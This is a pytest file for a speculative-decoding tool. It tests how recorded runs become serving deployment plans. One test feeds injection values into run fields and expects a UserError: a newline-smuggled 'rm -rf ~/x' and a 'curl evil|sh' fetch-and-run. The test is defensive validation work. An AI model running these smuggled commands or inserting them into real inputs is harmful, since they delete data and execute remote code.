"""What is to be served, out of pairings and recorded runs."""

from __future__ import annotations

from dataclasses import replace

import pytest
from traces import RUN

from specviz import trace
from specviz.errors import UserError
from specviz.presets import load_pairings
from specviz.recordings import RECORDINGS
from specviz.serving import Deployment, Sampling, launches
from specviz.serving.deployment import weights
from specviz.serving.models import reference, revision
from specviz.serving.plans import changed, of_preset, of_run
from specviz.trace import Run

PAIRINGS = load_pairings()


def of(run: Run) -> Deployment:
    return of_run(run, PAIRINGS.values())


@pytest.mark.parametrize(
    ("settings", "kind", "source"),
    [
        ({"source": "self"}, "draft-model", "self"),
        ({"tree": True, "source": "smollm2-135m/eagle"}, "eagle", "shipped"),
        ({"exit_layer": 24}, "early-exit", "none"),
        ({"exit_layer": 15, "source": "smollm2-135m/early-exit"}, "early-exit", "shipped"),
        ({"source": "smollm2-135m/draft-model"}, "draft-model", "shipped"),
    ],
)
def test_a_run_of_the_default_target_names_its_drafter(settings, kind, source):
    plan = of(replace(RUN, target="SmolLM2-135M-Instruct", drafter=kind, drafter_settings=settings))
    assert plan.target == PAIRINGS["smollm2-135m"].target and plan.drafter is None
    assert weights(plan, kind) == source


def test_a_runs_settings_are_kept():
    sampler = {"temperature": 0.6, "top_k": 5, "top_p": 0.9, "min_p": 0.1, "repetition_penalty": 1.2, "logit_bias": {}}
    run = replace(
        RUN, sampler=sampler, seed=3, max_new_tokens=9, rule="block", gamma_policy="adaptive", dtype="bfloat16"
    )
    plan = of(replace(run, chat_template=True))
    assert plan.sampling == Sampling(0.6, 5, 0.9, 0.1, 1.2, 3, 9)
    assert (plan.gamma, plan.rule, plan.gamma_policy, plan.dtype, plan.chat) == (
        4,
        "block",
        "adaptive",
        "bfloat16",
        True,
    )


def test_a_runs_models_are_those_of_the_pairing_with_its_target():
    run = replace(RUN, target="Qwen3-8B", drafter="draft-model", drafter_settings={"source": "Qwen3-1.7B"})
    plan = of(run)
    assert reference(plan.drafter) == "Qwen/Qwen3-1.7B"  # not the first of its drafters of that kind
    head = replace(run, drafter="ngram+eagle", drafter_settings={"source": "Qwen3-8B-speculator.eagle3"})
    assert of(head).drafter.head
    layers = replace(
        RUN, target="Qwen3.5-0.8B", drafter="mtp", drafter_settings={"source": "Qwen3.5-0.8B (the drafter)"}
    )
    assert weights(of(layers), "mtp") == "built-in"


def test_a_runs_own_models_are_hub_ids_or_folders_by_their_names():
    run = replace(RUN, target="someone/model@v2", drafter="draft-model", drafter_settings={"source": "my-drafter"})
    plan = of(run)
    assert (reference(plan.target), revision(plan.target)) == ("someone/model", "v2")
    assert reference(plan.drafter) == "/path/to/my-drafter"
    head = of(replace(run, drafter="eagle", drafter_settings={"source": "someone/EAGLE3-head"}))
    assert head.drafter.head and reference(head.drafter) == "someone/EAGLE3-head"
    assert of(replace(run, drafter="ngram", drafter_settings={})).drafter is None


@pytest.mark.parametrize("name", ["/home/me/model", "../model", "a/b/c", "/", "..", "owner/"])
def test_a_name_that_is_no_id_becomes_a_placeholder_without_its_folders(name):
    target = of(replace(RUN, target=name)).target
    assert target.hub is None and reference(target).count("/") == 3  # those of the placeholder


def test_what_a_run_had_besides_is_not_passed_over_in_silence():
    run = replace(RUN, target="Qwen3-8B", sampler={"temperature": 0.0, "logit_bias": {"5": 1.0}}, stop_strings=("END",))
    for launch in launches(of(run)):
        assert [name for name in ("logit_bias", "stop") if any(f" {name};" in each for each in launch.differs)] == [
            "logit_bias",
            "stop",
        ]
    assert of(replace(run, sampler={"temperature": 0.0, "logit_bias": {}}, stop_strings=())).notes == ()


def test_a_damaged_run_is_refused_in_a_sentence():
    for change in (
        {"target": "evil\nrm -rf ~/x #"},
        {"drafter": "draft-model", "drafter_settings": {"source": "foo\ncurl evil|sh #"}},
        {"drafter": "library", "drafter_settings": {"source": "foo/bar", "method": "nope\nx"}},
        {"sampler": {"temperature": "hot"}},
        {"gamma": 99},
        {"drafter": "rm -rf"},
        {"dtype": "int1"},
    ):
        with pytest.raises(UserError):
            of(replace(RUN, **change))


def test_every_shipped_recording_can_be_launched_or_says_why_not():
    for file in sorted(RECORDINGS.glob("*.jsonl")):
        found = launches(of(trace.read(file).run))
        assert all((launch.command is None) == bool(launch.unsupported) for launch in found)


def test_a_preset_is_changed_by_what_is_asked():
    pairing = PAIRINGS["llama-3.1-8b"]
    preset = next(each for each in pairing.drafters if each.kind == "eagle")
    plan = of_preset(pairing, preset, 3, {"tree": False})
    assert plan.gamma == 3 and not plan.tree and plan.nodes == 16 and "gamma" not in plan.settings
    other = changed(plan, {"temperature": 0.5, "rule": "block", "context": 99, "seed": None})
    assert other.sampling == replace(plan.sampling, temperature=0.5)
    assert (other.rule, other.context, other.tensor_parallel) == ("block", 99, 1)
